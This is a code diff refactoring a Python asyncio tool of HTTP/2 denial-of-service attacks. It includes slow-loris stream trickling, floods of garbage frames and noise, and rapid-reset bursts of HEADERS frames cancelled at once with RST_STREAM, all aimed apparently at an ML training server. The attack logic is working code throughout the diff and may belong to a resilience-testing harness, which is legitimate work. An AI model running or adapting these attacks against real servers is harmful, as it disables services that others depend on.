@@ -5,6 +5,7 @@ line of JSON at the end: at SIGTERM, or after SECONDS. Exits 1 if it never reach
 """
 
 import asyncio
+import contextlib
 import json
 import os
 import random
@@ -72,11 +73,22 @@ class Attack:
 
     async def discard(self, reader):
         """Reads until the server ends the connection, and ignores the answers."""
-        try:
+        with contextlib.suppress(OSError):
             while await reader.read(1 << 16):
                 pass
-        except OSError:
-            pass
+
+    async def repeat(self, use, pause=0.01):
+        """Until the end, `use(writer, is_over)` of one connection after the other, whose answers are ignored."""
+        while not self.over():
+            try:
+                reader, writer = await self.open()
+                reading = asyncio.ensure_future(self.discard(reader))
+                await use(writer, lambda reading=reading: self.over() or reading.done())
+                reading.cancel()
+                writer.close()
+            except OSError:
+                self.count("failures")
+                await asyncio.sleep(pause)
 
 
 async def slow_loris(attack):
@@ -84,30 +96,20 @@ async def slow_loris(attack):
     streams = int(attack.options.get("streams", 1000))
     each = int(attack.options.get("each", 50))
 
-    async def connection():
-        while not attack.over():
-            try:
-                reader, writer = await attack.open()
-                reading = asyncio.ensure_future(attack.discard(reader))
-                for i in range(each):
-                    stream = 2 * i + 1
-                    headers = COMPUTE_LOSS if i % 2 else UPLOAD_WEIGHTS
-                    writer.write(frame(HEADERS, END_HEADERS, stream, headers))
-                    writer.write(frame(DATA, 0, stream, b"\0" + struct.pack(">I", 1 << 20)))
-                    attack.count("streams")
-                while not attack.over() and not reading.done():
-                    for i in range(each):
-                        writer.write(frame(DATA, 0, 2 * i + 1, b"\x0a"))
-                        attack.count("trickled_bytes")
-                    await writer.drain()
-                    await asyncio.sleep(1)
-                reading.cancel()
-                writer.close()
-            except OSError:
-                attack.count("failures")
-                await asyncio.sleep(0.1)
+    async def trickle(writer, is_over):
+        for i in range(each):
+            stream = 2 * i + 1
+            writer.write(frame(HEADERS, END_HEADERS, stream, COMPUTE_LOSS if i % 2 else UPLOAD_WEIGHTS))
+            writer.write(frame(DATA, 0, stream, b"\0" + struct.pack(">I", 1 << 20)))
+            attack.count("streams")
+        while not is_over():
+            for i in range(each):
+                writer.write(frame(DATA, 0, 2 * i + 1, b"\x0a"))
+                attack.count("trickled_bytes")
+            await writer.drain()
+            await asyncio.sleep(1)
 
-    await asyncio.gather(*(connection() for _ in range(streams // each)))
+    await asyncio.gather(*(attack.repeat(trickle, pause=0.1) for _ in range(streams // each)))
 
 
 async def connections(attack):
@@ -152,63 +154,49 @@ async def garbage(attack):
         if ahead > 0:
             await asyncio.sleep(ahead)
 
-    while not attack.over():
-        try:
-            reader, writer = await attack.open()
-            reading = asyncio.ensure_future(attack.discard(reader))
-            stream = 1
-            while not attack.over() and not reading.done():
-                for _ in range(4):
-                    writer.write(unknown)
-                    sent += len(unknown)
-                    attack.count("bytes", len(unknown))
-                    await writer.drain()
-                if stream < 1 << 30:
-                    message = noise[:10000]
-                    writer.write(frame(HEADERS, END_HEADERS, stream, COMPUTE_LOSS))
-                    writer.write(frame(DATA, 1, stream, b"\0" + struct.pack(">I", len(message)) + message))
-                    stream += 2
-                    attack.count("calls")
-                    attack.count("bytes", len(message))
-                await pace()
-            reading.cancel()
-            writer.close()
-            _, writer = await attack.open(http2=False)
-            writer.write(noise)
-            attack.count("bytes", len(noise))
-            await asyncio.sleep(0)
-            writer.close()
-        except OSError:
-            attack.count("failures")
-            await asyncio.sleep(0.01)
+    async def send(writer, is_over):
+        nonlocal sent
+        stream = 1
+        while not is_over():
+            for _ in range(4):
+                writer.write(unknown)
+                sent += len(unknown)
+                attack.count("bytes", len(unknown))
+                await writer.drain()
+            if stream < 1 << 30:
+                message = noise[:10000]
+                writer.write(frame(HEADERS, END_HEADERS, stream, COMPUTE_LOSS))
+                writer.write(frame(DATA, 1, stream, b"\0" + struct.pack(">I", len(message)) + message))
+                stream += 2
+                attack.count("calls")
+                attack.count("bytes", len(message))
+            await pace()
+        _, other = await attack.open(http2=False)
+        other.write(noise)
+        attack.count("bytes", len(noise))
+        await asyncio.sleep(0)
+        other.close()
+
+    await attack.repeat(send)
 
 
 async def resets(attack):
     """Calls that are reset as soon as they have begun, as many as the server takes, on `parallel` connections."""
 
-    async def connection():
-        while not attack.over():
-            try:
-                reader, writer = await attack.open()
-                reading = asyncio.ensure_future(attack.discard(reader))
-                stream = 1
-                while not attack.over() and not reading.done() and stream < 1 << 30:
-                    burst = []
-                    for _ in range(100):
-                        burst.append(frame(HEADERS, END_HEADERS, stream, COMPUTE_LOSS))
-                        burst.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
-                        stream += 2
-                    writer.write(b"".join(burst))
-                    attack.count("resets", 100)
-                    await writer.drain()
-                    await asyncio.sleep(0)
-                reading.cancel()
-                writer.close()
-            except OSError:
-                attack.count("failures")
-                await asyncio.sleep(0.01)
+    async def send(writer, is_over):
+        stream = 1
+        while not is_over() and stream < 1 << 30:
+            burst = []
+            for _ in range(100):
+                burst.append(frame(HEADERS, END_HEADERS, stream, COMPUTE_LOSS))
+                burst.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
+                stream += 2
+            writer.write(b"".join(burst))
+            attack.count("resets", 100)
+            await writer.drain()
+            await asyncio.sleep(0)
 
-    await asyncio.gather(*(connection() for _ in range(int(attack.options.get("parallel", 4)))))
+    await asyncio.gather(*(attack.repeat(send) for _ in range(int(attack.options.get("parallel", 4)))))
 
 
 ATTACKS = {"slow_loris": slow_loris, "connections": connections, "garbage": garbage, "resets": resets}
